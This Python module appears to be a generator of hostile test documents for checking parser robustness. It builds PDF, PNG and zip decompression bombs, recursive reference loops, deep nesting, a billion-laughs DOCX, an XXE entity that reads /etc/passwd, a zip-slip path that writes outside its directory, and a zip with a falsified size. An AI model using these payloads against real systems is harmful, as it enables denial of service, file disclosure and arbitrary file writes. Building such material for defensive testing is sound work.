"""Documents made to harm who reads them: bombs, loops, depths and lies, each small and made in a moment."""

import io
import struct
import zipfile
import zlib


def pdf(objs, trailer_extra=b"", root=1):
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    for n, o in objs.items():
        offs[n] = len(out)
        out += b"%d 0 obj\n" % n + o + b"\nendobj\n"
    x = len(out)
    m = max(objs)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (m + 1)
    for n in range(1, m + 1):
        out += b"%010d 00000 n \n" % offs[n] if n in offs else b"0000000000 00000 f \n"
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (m + 1, root, trailer_extra, x)
    return bytes(out)


def stream(d, b):
    return b"<<" + d + b"/Length %d>>stream\n" % len(b) + b + b"\nendstream"


def zeros(count):
    """Gives so many zero bytes compressed, quickly: one block over and over."""
    z, block = zlib.compressobj(9), bytes(1 << 22)
    first = z.compress(block) + z.flush(zlib.Z_FULL_FLUSH)
    more = z.compress(block) + z.flush(zlib.Z_FULL_FLUSH)
    return first + more * (count // len(block)) + bytes((3, 0, 0, 0, 0, 0))


def bomb_image(w=50000, h=50000):
    d = zeros(w * h)
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>",
            4: stream(b"", b"q 612 0 0 792 0 0 cm /I Do Q"),
            5: stream(
                b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode"
                % (w, h),
                d,
            ),
        }
    )


def kids_loop():
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 1000000>>"})


def xref_loop():
    b = pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
        }
    )
    return b.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % b.index(b"xref\n0"))


def deep():
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 50000 + b"]" * 50000 + b">>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>",
        }
    )


def deep_form(n=3000):
    o = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>",
        4: stream(b"", b"/F Do"),
    }
    for i in range(5, 5 + n):
        o[i] = stream(
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>"
            % (i + 1 if i < 4 + n else 5),
            b"/F Do /F Do",
        )
    return pdf(o)


def pages50k():
    o = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    ids = range(3, 50003)
    o[2] = b"<</Type/Pages/Kids[" + b" ".join(b"%d 0 R" % i for i in ids) + b"]/Count 50000>>"
    for i in ids:
        o[i] = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"
    return pdf(o)


def content_bomb():
    z = zlib.compressobj(9)
    d = (
        b"".join(z.compress(b"BT /F 9 Tf (xxxxxxxxxxxxxxxxxxxxxxxx) Tj ET " * 20000) for _ in range(200))
        + z.flush()
    )
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>",
            4: stream(b"/Filter/FlateDecode", d),
        }
    )


def flate_chain():
    d = b"\0" * (1 << 24)
    for _ in range(3):
        d = zlib.compress(d * (4 if len(d) < 1 << 25 else 1), 9)
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
            4: stream(b"/Filter[/FlateDecode/FlateDecode/FlateDecode]", d),
        }
    )


def png_bomb(w=50000, h=50000):
    def ch(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))

    d = zeros((w // 8 + 1) * h)
    return (
        b"\x89PNG\r\n\x1a\n"
        + ch(b"IHDR", struct.pack(">IIBBBBB", w, h, 1, 0, 0, 0, 0))
        + ch(b"IDAT", d)
        + ch(b"IEND", b"")
    )


def xlsx(sheet, extra=()):
    f = io.BytesIO()
    with zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        for n, b in extra:
            z.writestr(n, b)
    return f.getvalue()


NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def xlsx_dim():
    return xlsx(
        f'<?xml version="1.0"?><worksheet {NS}><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="2"><c r="B2" t="inlineStr"><is><t>b</t></is></c></row></sheetData></worksheet>'
    )


def xlsx_far():
    return xlsx(
        f'<?xml version="1.0"?><worksheet {NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>b</t></is></c></row></sheetData></worksheet>'
    )


def docx(xml, extra=()):
    f = io.BytesIO()
    with zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", xml)
        for n, b in extra:
            z.writestr(n, b)
    return f.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx_laughs():
    e = '<!ENTITY a0 "ha">' + "".join(
        "<!ENTITY a" + str(i) + ' "' + f"&a{i - 1};" * 10 + '">' for i in range(1, 11)
    )
    return docx(
        f'<?xml version="1.0"?><!DOCTYPE x [{e}]><w:document {W}><w:body><w:p><w:r><w:t>&a10;</w:t></w:r></w:p></w:body></w:document>'
    )


def docx_xxe():
    return docx(
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document {W}><w:body><w:p><w:r><w:t>A&e;B</w:t></w:r></w:p></w:body></w:document>'
    )


def docx_deep(n=200000):
    return docx(f"<w:document {W}><w:body>" + "<w:p>" * n + "</w:p>" * n + "</w:body></w:document>")


def docx_many(n=1000000):
    return docx(
        f"<w:document {W}><w:body>" + "<w:p><w:r><w:t>ก</w:t></w:r></w:p>" * n + "</w:body></w:document>"
    )


def zip_slip():
    return docx(
        f"<w:document {W}><w:body><w:p><w:r><w:t>ก</w:t></w:r></w:p></w:body></w:document>",
        [("../../../../tmp/oit-zipslip.txt", "x")],
    )


def zip_bomb():
    return docx(f"<w:document {W}/>", [("word/media/x.bin", b"\0" * (300 << 20))])


def zip_lie():
    b = bytearray(docx(f"<w:document {W}><w:body>" + "<w:p/>" * 8000000 + "</w:body></w:document>"))
    at = b.rindex(b"PK\x01\x02")
    struct.pack_into("<I", b, at + 24, 100)
    return bytes(b)


ALL = {
    one.__name__: one
    for one in (
        bomb_image, kids_loop, xref_loop, deep, deep_form, pages50k, content_bomb, flate_chain, png_bomb, xlsx_dim,
        xlsx_far, docx_laughs, docx_xxe, docx_deep, docx_many, zip_slip, zip_bomb, zip_lie,
    )
}  # fmt: skip
"""What makes each of them, by name."""
